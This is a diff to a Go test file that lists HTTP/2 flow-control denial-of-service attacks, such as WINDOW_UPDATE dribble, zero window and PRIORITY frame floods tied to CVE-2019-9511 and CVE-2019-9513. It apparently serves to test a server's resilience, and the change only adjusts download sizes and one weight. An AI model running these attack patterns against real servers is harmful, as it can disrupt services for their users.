@@ -164,7 +164,7 @@ func All() []Attack {
 		{"WINDOW_UPDATE dribble", "fifty downloads without a window, which gets one byte larger at a time (CVE-2019-9511)", 4,
 			h2(options{settings: noWindow}, repeat(func(c *conn, i int) error {
 				if i < 50 {
-					_, _ = c.call(stream, download(10, 1<<20))
+					_, _ = c.call(stream, download(160, 64<<10))
 				}
 				_ = c.WriteWindowUpdate(uint32(2*(i%min(50, i+1))+1), 1)
 				_ = c.WriteWindowUpdate(0, 1)
@@ -197,7 +197,7 @@ func All() []Attack {
 		{"zero window", "250 downloads with SETTINGS_INITIAL_WINDOW_SIZE 0", 2,
 			h2(options{settings: noWindow}, func(c *conn) error {
 				for range manyCall {
-					_, _ = c.call(stream, download(10, 1<<20))
+					_, _ = c.call(stream, download(160, 64<<10))
 					if err := c.step(2); err != nil {
 						return err
 					}
@@ -208,7 +208,7 @@ func All() []Attack {
 			h2(options{settings: allWindow, deaf: true}, func(c *conn) error {
 				_ = c.WriteWindowUpdate(0, math.MaxInt32-65535)
 				for range manyCall {
-					_, _ = c.call(stream, download(10, 1<<20))
+					_, _ = c.call(stream, download(160, 64<<10))
 					if err := c.step(2); err != nil {
 						return err
 					}
@@ -219,7 +219,7 @@ func All() []Attack {
 			h2(options{settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 512 << 10}}}, func(c *conn) error {
 				_ = c.WriteWindowUpdate(0, math.MaxInt32-65535)
 				for range manyCall {
-					_, _ = c.call(stream, download(10, 1<<20))
+					_, _ = c.call(stream, download(160, 64<<10))
 					if err := c.step(2); err != nil {
 						return err
 					}
@@ -230,7 +230,7 @@ func All() []Attack {
 			halfOpen()},
 		{"backend without a window", "250 uploads to a backend whose streams have no window", 4, uploads("/" + ZeroService + "/Upload")},
 		{"backend that never credits", "250 uploads to a backend that never sends WINDOW_UPDATE", 4, uploads("/" + SilentService + "/Upload")},
-		{"backend that does not read", "250 uploads to a grpc-go handler that does not read", 4, uploads(upload)},
+		{"backend that does not read", "250 uploads to a grpc-go handler that does not read", 2, uploads(upload)},
 		{"PRIORITY and unknown frames", "PRIORITY frames (CVE-2019-9513) and frames of a type that nobody knows", 4,
 			h2(options{}, repeat(func(c *conn, i int) error {
 				if i%2 == 0 {
